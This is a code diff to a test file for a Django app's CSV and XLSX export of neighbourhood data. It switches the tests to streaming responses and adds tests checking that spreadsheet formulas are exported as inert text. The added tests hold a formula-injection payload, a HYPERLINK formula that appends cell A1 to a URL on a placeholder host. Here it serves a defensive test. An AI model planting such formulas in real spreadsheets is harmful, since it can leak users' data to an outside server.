@@ -16,8 +16,12 @@ def _csv(response) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text), delimiter=";"))
 
 
+def _content(response) -> bytes:
+    return b"".join(response.streaming_content)
+
+
 def _workbook(response):
-    return load_workbook(io.BytesIO(response.content), read_only=True)
+    return load_workbook(io.BytesIO(_content(response)), read_only=True)
 
 
 def test_csv_export_streams_only_items_in_scope(client, worker, buurt, outside_buurt):
@@ -84,7 +88,7 @@ def test_xlsx_export_never_has_key_figures_for_an_analist(client, analist, buurt
 
     workbook = _workbook(response)
     assert "Sleutelfiguren" not in workbook.sheetnames
-    assert b"buurtmoeder" not in response.content
+    assert b"buurtmoeder" not in _content(response)
 
 
 def test_key_figure_export_is_refused_to_an_analist(client, analist, buurt):
@@ -129,3 +133,28 @@ def test_export_page_without_parameters_shows_the_form(client, worker):
 
     assert response.status_code == 200
     assert 'id="export-form"' in response.content.decode()
+
+
+HYPERLINK = '=HYPERLINK("https://voorbeeld.invalid/?d="&A1,"Klik hier")'
+
+
+def test_a_key_figures_formula_arrives_as_text_in_csv(client, worker, buurt):
+    KeyFigureFactory(label="buurtmoeder", gifts=HYPERLINK, buurt=buurt, consent_recorded_by=worker)
+    client.force_login(worker)
+
+    response = client.get(reverse("assets:export"), {"format": "csv", "kind": "sleutelfiguren"})
+
+    assert _csv(response)[1][3] == "'" + HYPERLINK
+
+
+def test_a_formula_arrives_as_text_in_xlsx(client, worker, buurt):
+    ProviderFactory(name=HYPERLINK, buurten=[buurt])
+    KeyFigureFactory(label="buurtmoeder", gifts=HYPERLINK, buurt=buurt, consent_recorded_by=worker)
+    client.force_login(worker)
+
+    workbook = load_workbook(io.BytesIO(_content(client.get(reverse("assets:export"), {"format": "xlsx"}))))
+
+    for title, column in (("Organisaties", 1), ("Sleutelfiguren", 4)):
+        cell = workbook[title].cell(row=2, column=column)
+        assert (cell.value, cell.data_type) == (HYPERLINK, "s")
+        assert cell.quotePrefix
